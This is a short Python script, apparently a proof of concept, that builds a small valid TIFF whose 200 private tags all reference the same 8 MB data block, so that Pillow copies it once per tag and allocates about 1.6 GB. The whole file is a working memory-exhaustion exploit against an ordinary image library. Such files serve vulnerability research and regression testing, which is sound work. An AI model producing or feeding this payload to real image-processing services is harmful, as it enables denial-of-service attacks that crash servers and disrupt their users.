"""Private tags of a small valid TIFF all claim the same 8 MB, which Pillow copies once for each: 1.6 GB."""

from __future__ import annotations

from pieces import grey_page, tiff
from shown import show


def make(size: int = 8_000_000, tags: int = 200) -> bytes:
    place = 72 + 2 + 12 * (9 + tags) + 4
    private = [(20_000 + tag, 7, size, place) for tag in range(tags)]
    return tiff(grey_page() + private, 72, b"\x80" * 64) + b"\0" * size


if __name__ == "__main__":
    show(make)
